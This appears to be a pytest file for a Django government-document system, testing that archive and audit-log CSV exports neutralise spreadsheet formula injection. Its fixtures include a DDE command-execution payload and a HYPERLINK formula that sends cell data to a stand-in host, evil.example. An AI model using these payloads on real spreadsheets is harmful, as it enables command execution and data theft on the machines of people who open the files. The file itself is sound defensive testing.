"""CSV formula injection (issue 11 point 2): text a person typed (a 公文 title, a name, an audit object) reaches the
CSV files people open in Excel/WPS — the archive export's index.csv and the auditor's audit-log export — and must
not start a formula there (docs/security.md §10)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from documents.actions.archive import check_archive_document
from documents.actions.documents import do_set_document_status
from documents.models import DocType, OfficialDocument
from oa.actions.audit import do_record_audit
from oa.csvsafe import FORMULA_STARTS, csv_cell
from oa.models import Person
from tests.clients import login
from tests.test_search import make_document

pytestmark = pytest.mark.django_db

# What a 公文 title may be (the 要素 input refuses control characters, so no TAB/CR here).
FORMULA_TITLES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1关于开展检查的通知",
    "＋1",
    "－2",
    "＠SUM(A1)",
]
# Text that arrives from elsewhere (directory sync, older data, the audit log's free fields) may carry them.
FORMULA_TEXTS = [*FORMULA_TITLES, "\t=1+1", "\r=1+1", "\t-2+3", "\r@SUM(A1)"]
PLAIN = "关于做好2026年汛期安全防范工作的通知"


def unquoted(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_STARTS else cell


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, (cell, row)


def test_csv_cell_quotes_formula_starts_only():
    for text in FORMULA_TEXTS:
        assert csv_cell(text) == "'" + text
    for text in (PLAIN, "", "关于=号的说明", "'已有单引号", " =1+1", "2026"):
        assert csv_cell(text) == text
    assert csv_cell(None) == ""
    assert csv_cell(-5) == -5 and csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell(-0.5) == -0.5
    assert csv_cell("-5") == "'-5"  # text that looks like a number is still someone's text


def test_archive_index_quotes_formula_titles_and_names(cast, tmp_path):
    clerk = cast.liuyang
    # A name as a directory sync could bring it (the clerk's name is the index's 归档人 column).
    Person.objects.filter(pk=clerk.pk).update(name="\t=1+1")
    clerk.refresh_from_db()
    docs = {}
    for title in [*FORMULA_TITLES, PLAIN]:
        doc = make_document(cast.zhangwei, title=title, doc_type=DocType.NOTICE, written_date="2026-04-03",
                            number_year=2026, index=False)
        do_set_document_status(doc, OfficialDocument.Status.SEALED, actor=cast.zhoumin)
        check_archive_document(clerk, doc, retention="permanent")
        docs[str(doc.identifier)] = title

    out = tmp_path / "export"
    call_command("export_archive", "--agency", "揭东府办", "--year", "2026", str(out), stdout=io.StringIO())
    text = (out / "index.csv").read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert_no_formula(rows)
    records = list(csv.DictReader(io.StringIO(text)))
    assert {r["公文标识"]: unquoted(r["标题"]) for r in records} == docs  # every title intact once unquoted
    for r in records:
        title = docs[r["公文标识"]]
        assert r["标题"] == (PLAIN if title == PLAIN else "'" + title)
        assert r["归档人"] == "'\t=1+1"
        assert r["校验结果"] == "通过"  # the packages themselves are untouched: they verify as before
        assert (out / r["文件名"]).exists()


def test_audit_export_quotes_formula_cells(cast):
    auditor = cast.yanghui  # the 审计管理员 (三员分立): the only reader of the audit log
    # Through a real action: creating a 公文 audits it with the title as the object.
    created = [make_document(cast.zhangwei, title=t, index=False) for t in FORMULA_TITLES]
    for text in FORMULA_TEXTS:
        do_record_audit(actor=None, actor_name=text, action="test.csv", object_id=text, object_repr=text)
    lender = Person.objects.get(pk=cast.wangfang.pk)
    Person.objects.filter(pk=lender.pk).update(name="@SUM(A1)")
    lender.refresh_from_db()
    do_record_audit(actor=cast.lina, on_behalf_of=lender, action="test.csv", object_repr=PLAIN)

    export = login(auditor, otp=True).get("/audit/export.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8").lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    assert header[0] == "序号"
    assert_no_formula(body)
    col = {name: i for i, name in enumerate(header)}
    by_action: dict[str, list[list[str]]] = {}
    for r in body:
        by_action.setdefault(r[col["操作"]], []).append(r)

    titles = [r[col["对象"]] for r in by_action["document.create"] if r[col["对象标识"]] in {str(d.pk) for d in created}]
    assert titles == ["'" + t for t in FORMULA_TITLES]
    mine = by_action["test.csv"]
    assert [(r[col["操作人"]], r[col["对象标识"]], r[col["对象"]]) for r in mine[:-1]] == [
        ("'" + t, "'" + t, "'" + t) for t in FORMULA_TEXTS]
    assert [unquoted(r[col["对象"]]) for r in mine[:-1]] == FORMULA_TEXTS
    assert mine[-1][col["代谁办理"]] == "'@SUM(A1)" and mine[-1][col["对象"]] == PLAIN
    assert mine[-1][col["序号"]].isdigit()  # own numbers are written as they are
